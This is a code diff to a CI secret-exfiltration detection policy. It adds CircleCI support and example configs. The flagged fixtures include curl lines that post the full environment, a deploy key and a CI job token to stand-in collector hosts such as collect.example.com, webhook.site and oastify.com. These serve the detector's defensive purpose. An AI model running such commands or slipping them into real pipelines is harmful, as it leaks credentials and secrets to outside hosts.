@@ -25,7 +25,7 @@ export const secretExfil = definePolicy({
     practices: ["P17", "P20"],
     cwe: [200, 522],
   },
-  platforms: ["github-actions", "gitlab-ci"],
+  platforms: ["circleci", "github-actions", "gitlab-ci"],
   examples: {
     flag: [
       {
@@ -54,6 +54,18 @@ export const secretExfil = definePolicy({
               - «curl -X POST --data "$CI_JOB_TOKEN" https://abc.oastify.com»
         `,
       },
+      {
+        path: ".circleci/config.yml",
+        text: `
+          version: 2.1
+          jobs:
+            deploy:
+              docker: [{ image: cimg/base:2026.01 }]
+              steps:
+                - run: «curl -d "$(env)" https://collect.example.com/x»
+                - run: «curl -d "key=$DEPLOY_KEY" https://webhook.site/0123»
+        `,
+      },
     ],
     ok: [
       {
@@ -78,6 +90,18 @@ export const secretExfil = definePolicy({
             script:
               - 'curl --header "PRIVATE-TOKEN: $DEPLOY_TOKEN" "$CI_API_V4_URL/projects"'
               - curl --form "token=$TRIGGER_TOKEN" --form ref=main https://gitlab.com/api/v4/projects/1/trigger/pipeline
+        `,
+      },
+      {
+        path: ".circleci/config.yml",
+        text: `
+          version: 2.1
+          jobs:
+            deploy:
+              docker: [{ image: cimg/base:2026.01 }]
+              steps:
+                - run: 'curl --header "Authorization: $API_TOKEN" https://api.example.com/v1'
+                - run: curl https://webhook.site/0123
         `,
       },
     ],
